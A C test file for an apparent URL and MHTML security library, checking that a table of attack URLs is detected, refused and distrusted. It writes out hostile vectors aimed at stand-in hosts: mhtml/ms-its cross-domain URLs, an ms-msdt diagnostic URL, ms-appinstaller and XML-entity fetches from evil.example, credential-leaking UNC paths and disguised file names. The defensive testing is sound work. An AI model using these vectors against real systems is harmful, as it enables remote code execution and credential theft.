/*
 * The table vectors/attack-urls.tsv: each row's findings must come out of a scan of its form, and each URL must be refused by
 * the handler. Many forms of the table are shorthand ("scheme ; other scheme", "<26 x …>"): what they stand for is written out
 * here, by id, as a URL or as a file. A finding beyond those named is no mistake: the table names the reason, not every
 * symptom.
 */
#include "conformance.h"

#include "postern/scan.h"

enum { ID, REFERENCE, FORM, VEHICLE, COMPONENT, MECHANISM, FINDINGS, DECISION, COLUMNS };

/* `name` NULL: `text` is a URL. `type`: what the server says of the container. `refuse`: the handler must not open it. */
typedef struct form {
    const char *id, *name, *text, *landed, *type;
    bool refuse;
} form;

#define URL(id, text)                                                                                                          \
    { id, NULL, text, NULL, NULL, true }
#define AS(id, name, text)                                                                                                     \
    { id, name, text, NULL, NULL, false }
#define MULTI "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n--b\r\n"

static const form forms[] = {
    URL("au-001", "ms-its:mhtml:file://C:\\nosuch.mht!http://evil.example/x.chm::/x.htm"),
    URL("au-002", "ms-its:mhtml:file://C:\\ss.MHT!http://www.example.com//chm.chm::/files/launch.htm"),
    URL("au-003", "its:mhtml:file://C:\\foo.mht!http://evil.example/x.chm::/x.htm"),
    URL("au-005", "mk:@MSITStore:mhtml:file://C:\\foo.mht!http://evil.example/x.chm::/x.htm"),
    AS("au-006", "x.html",
       "<object data=\"&#109;s-its:mhtml:file://C:\\foo.mht!http://evil.example/EXPLOIT.CHM::/exploit.htm\">"),
    URL("au-007", "URL:ms-its:mhtml:file://C:\\foo.mht!http://evil.example/x.chm::/x.htm"),
    URL("au-009", "ms-its:mhtml:file://C:\\MAIN.MHT!http://dialer.example//main.chm::/main.htm"),
    AS("au-010", "x.html", "<script>a=\"m\"+\"html\"+\":\"+\"file://C:\\\\x.mht!http://evil.example/\"</script>"),
    URL("au-011", "mhtml:file://C:\\nosuch.mht!http://evil.example/page.html"),
    URL("au-013", "mhtml:file://C:\\\\CACHE\\CONTENT.IE5\\MHT.MHT!file:///C:\\EXE.EXE"),
    URL("au-014", "mk:@MSITStore:iexplore.chm::..\\..\\..\\..\\chmfile.chm::/fileinchm.html"),
    URL("au-015", "URL:ms-its:C:\\WINDOWS\\Help\\iexplore.chm::/iegetsrt.htm"),
    {"au-017", NULL, "mhtml:file:///C:/path/any-text-file.txt", NULL, "text/plain", true},
    {"au-018", NULL, "mhtml:http://attacker.example/redir", "http://victim.example/private", "message/rfc822", true},
    {"au-019", NULL, "mhtml:http://victim.example/page", NULL, "text/html", true},
    URL("au-021", "mhtml:file://\\\\host.example\\share\\x.mht"),
    {"au-022", NULL, "mhtml:http://victim.example/upload/pic.jpg!cookie", NULL, "image/jpeg", true},
    AS("au-022", "pic.jpg",
       "\xFF\xD8\xFF\xE0\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=_x\r\n\r\n--_x\r\n"),
    {"au-023", NULL,
     "mhtml:http://victim.example/search?q=%0d%0aContent-Type:%20multipart/related;%20boundary=_x%0d%0a%0d%0a--_x!x", NULL,
     "text/html", true},
    URL("au-025", "mhtml:file://\\\\192.0.2.1\\share\\x.mht!y"),
    {"au-026", NULL, "mhtml:http://server.example/frame.htm", NULL, "text/html", true},
    URL("au-027", "mhtml://mid:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"),
    AS("au-029", "document.xml.rels",
       "<Relationships><Relationship Target=\"&#109;&#104;&#116;&#109;&#108;&#58;http://evil.example/x.html&#33;x-usc:"
       "http://evil.example/x.html\" TargetMode=\"External\"/></Relationships>"),
    AS("au-030", "x.url", "[InternetShortcut]\r\nURL=mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html\r\n"),
    AS("au-031", "Books_A0UJKO.pdf\xE2\xA0\x80\xE2\xA0\x80\xE2\xA0\x80\xE2\xA0\x80\xE2\xA0\x80\xE2\xA0\x80.hta", "x"),
    AS("au-033", "x.url", "[InternetShortcut]\r\nURL=file://./UNC/C:/Akamai.com/test.wav\r\n"),
    URL("au-034", "\\\\.\\UNC\\\\192.0.2.1\\share\\x.wav"),
    URL("au-035", "\\\\192.0.2.1\\share\\x.wav"),
    AS("au-037", "x.url", "[InternetShortcut]\r\nURL=file://192.0.2.1@80/x/y.vbs\r\n"),
    URL("au-038", "ms-msdt:/id PCWDiagnostic /skip force /param \"IT_RebrowseForFile=? IT_BrowseForFile=... \""),
    AS("au-039", "document.xml.rels",
       "<Relationships><Relationship Type=\"x/oleObject\" Target=\"http://evil.example/RDF842l.html!\" "
       "TargetMode=\"External\"/>"),
    URL("au-041", "ms-officecmd:{}"),
    URL("au-041", "ms-word:ofe|u|http://evil.example/x.docx"),
    URL("au-041", "ms-appinstaller:?source=http://evil.example/x.appx"),
    AS("au-042", "x.html", "<meta http-equiv=\"refresh\" content=\"0;URL=file://192.0.2.1/share/x.zip\">"),
    URL("au-043", "http://%2567oogle.example/"),
    AS("au-045", "x.html", "<iframe src=\"mhtml:file:///C:/x.mht!y\">"),
    AS("au-046", "x.html", "<META HTTP-EQUIV=REFRESH CONTENT=\"0; url=attached.mhtml\">"),
    AS("au-047", "x.mht",
       MULTI "Content-Type: text/xml\r\n\r\n<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM "
             "\"http://evil.example/d.xml\">]><r/>\r\n--b--\r\n"),
    URL("au-049", "mhtml:mhtml:file:///C:/a.mht!x!y"),
    URL("au-050", "mhtml:about:blank!x"),
    URL("au-050", "mhtml:javascript:alert(1)!x"),
    URL("au-050", "mhtml:data:message/rfc822;base64,AAAA!x"),
    URL("au-051", "mhtml:http://a.example/x.mht!x-usc:http://b.example/p.html"),
    URL("au-053", "MHTML:HTTP://A.EXAMPLE/X.MHT!X-USC:foo"),
    AS("au-054", "x.html", "<a href=\"m&#x09;html:file:///C:/a.mht!b\">"),
    URL("au-054", "mh\ttml:file:///C:/a.mht!b"),
    URL("au-054", "\x01mhtml:file:///C:/a.mht!b"),
    AS("au-055", "x.html", "<a href=\"file:///\\\\?\\UNC\\192.0.2.1\\share\\x\">"),
    URL("au-055", "file:////192.0.2.1/share"),
    URL("au-055", "\\\\192.0.2.1@SSL@443\\DavWWWRoot\\x"),
    AS("au-055", "x.html", "<a href=\"/\\192.0.2.1\\x\">"),
    AS("au-057", "x.html", "<a href=\"http://intranet./\">"),
    AS("au-057", "x.html", "<a href=\"http://3232235777/\">"),
    AS("au-057", "x.html", "<a href=\"http://0x7f.1/\">"),
    AS("au-057", "x.html", "<a href=\"http://[::ffff:7f00:1]/\">"),
    URL("au-058", "hcp://system/x"),
    URL("au-058", "shell:cache\\x"),
    URL("au-058", "vbscript:x"),
    URL("au-058", "res://x.dll/y"),
    URL("au-058", "local://x"),
    URL("au-058", "vnd.ms.radio:x"),
    URL("au-058", "mms://x.example/y"),
    URL("au-058", "telnet://x.example"),
    URL("au-058", "rlogin://x.example"),
    URL("au-058", "tn3270://x.example"),
    AS("au-059", "x.html", "<form action=\"cid:part1@a.example\"><input type=submit></form>"),
    AS("au-061", "x.html", "<object codebase=\"C:\\x.exe\" type=\"application/x-oleobject\">"),
};
enum { FORMS = sizeof forms / sizeof *forms };

static postern_status on_finding(void *user, const postern_finding *f) {
    ((bool *)user)[f->number] = true;
    return POSTERN_OK;
}

static void scan_form(const form *f, bool found[POSTERN_FINDING_COUNT + 1]) {
    postern_finding_sink sink = {on_finding, found};
    postern_scan_report report;
    postern_slice text = postern_slice_cstr(f->text);
    postern_status status = f->name ? postern_scan_bytes(text, postern_slice_cstr(f->name), NULL, &sink, &report)
                                    : postern_scan_url(text, POSTERN_PLACE_LOAD, postern_slice_cstr(f->landed), NULL, &sink);
    if (status) give_up("the scan failed", f->id);
}

/* ---- the handler ---- */

/* An archive that holds the part that the attack wants stands at every address: only a refusal keeps it shut. */
static postern_status any_container(void *user, const postern_url *url, postern_container *ret, postern_error *reterr) {
    const form *f = user;
    static postern_slice hop[1];
    (void)reterr;
    hop[0] = postern_slice_cstr(f->landed);
    *ret = (postern_container){
        .bytes = POSTERN_S(MULTI "Content-Type: text/html\r\nContent-Location: http://a.example/\r\n\r\nx\r\n--b--"),
        .type = postern_slice_cstr(f->type ? f->type : "message/rfc822"),
        .hops = f->landed ? hop : NULL,
        .hop_count = f->landed ? 1 : 0};
    return url ? POSTERN_OK : POSTERN_NOTFOUND;
}

static void no_close(void *user, postern_container *container) {
    (void)user;
    (void)container;
}

static bool refused(const form *f, const postern_policy *policy) {
    postern_container_io io = {any_container, no_close, (void *)(uintptr_t)f};
    postern_resolution *resolution = NULL;
    postern_error error;
    postern_status status = postern_mhtml_resolve(policy, postern_slice_cstr(f->text), NULL, &io, &resolution, &error);
    postern_resolution_free(resolution);
    return status == POSTERN_DENIED || status == POSTERN_NOTFOUND;
}

static const char *const openable[] = {"mms:", "telnet:", "rlogin:", "tn3270:", "ms-",
                                       "res:", "local:",  "vnd.",    "hcp:",    "shell:"};

/* Nothing that is refused may be better than Internet; URLs in two readings and handlers are not openable at all (Z4, Z8). */
static bool distrusted(const form *f, const postern_policy *policy) {
    postern_arena *arena = postern_arena_new(1 << 20);
    postern_zone_decision decision;
    postern_status status =
        arena ? postern_zone_evaluate(policy, postern_slice_cstr(f->text), NULL, arena, &decision) : POSTERN_NOMEM;
    bool low = !status && postern_zone_least(decision.zone, POSTERN_ZONE_INTERNET) == decision.zone, other = false;
    for (size_t i = 0; i < sizeof openable / sizeof *openable; i++)
        other |= postern_slice_starts_nocase(postern_slice_cstr(f->text), postern_slice_cstr(openable[i]));
    bool path = f->text[0] == '\\' || postern_slice_starts_nocase(postern_slice_cstr(f->text), POSTERN_S("file:"));
    bool mhtml = postern_slice_starts_nocase(postern_slice_cstr(f->text), POSTERN_S("mhtml:"));
    bool good = low && (other || path || mhtml || !decision.openable);
    postern_arena_free(arena);
    return good;
}

/* ---- rows ---- */

static unsigned check_row(tap_row *tap, const postern_slice *row, bool decide, const postern_policy *policy) {
    bool found[POSTERN_FINDING_COUNT + 1] = {false};
    unsigned count = 0;
    for (size_t i = 0; i < FORMS; i++) {
        if (!postern_slice_eq(row[ID], postern_slice_cstr(forms[i].id))) continue;
        count++;
        if (!decide)
            scan_form(&forms[i], found);
        else if (forms[i].refuse) {
            tap_case(tap, refused(&forms[i], policy), "%s: the handler opens %s", forms[i].id, forms[i].text);
            tap_case(tap, distrusted(&forms[i], policy), "%s: the zone trusts %s", forms[i].id, forms[i].text);
        }
    }
    tap_case(tap, count != 0, "%.*s: no form", POSTERN_ARG(row[ID]));
    for (unsigned n = 1; n <= POSTERN_FINDING_COUNT && !decide; n++) {
        char id[8];
        snprintf(id, sizeof id, "MH%03u", n);
        if (postern_slice_find(row[FINDINGS], 0, postern_slice_cstr(id)) != SIZE_MAX)
            tap_case(tap, found[n], "%.*s: %s is missing", POSTERN_ARG(row[ID]), id);
    }
    return count;
}

static void table(tap_row *tap, postern_slice bytes, bool decide, const char *name) {
    unsigned rows = 0, used = 0;
    postern_policy *policy;
    if (postern_policy_new(&policy) || postern_policy_seal(policy, NULL)) give_up("no policy", name);
    for (postern_cut lines = {bytes, bytes, true}; lines.ok;) {
        postern_slice row[COLUMNS];
        lines = postern_slice_cut(lines.tail, '\n');
        postern_cut cells = {lines.head, lines.head, true};
        size_t count = 0;
        while (cells.ok && count < COLUMNS) {
            cells = postern_slice_cut(cells.tail, '\t');
            row[count++] = cells.head;
        }
        if (count < COLUMNS || !postern_slice_starts(row[ID], POSTERN_S("au-"))) continue;
        used += check_row(tap, row, decide, policy);
        rows++;
    }
    tap_case(tap, rows >= 40 && used == FORMS, "%u rows, %u forms", rows, used);
    tap_end(tap, name);
    postern_policy_free(policy);
}

int main(void) {
    tap_row tap;
    tap_plan(&tap, 2);
    postern_slice bytes = shared_bytes("vectors/attack-urls.tsv");
    table(&tap, bytes, false, "vectors/attack-urls.tsv, findings");
    table(&tap, bytes, true, "z4 z5 z6 z8 z9 vectors/attack-urls.tsv, decisions");
    free((void *)(uintptr_t)bytes.ptr);
    return tap_finish(&tap);
}
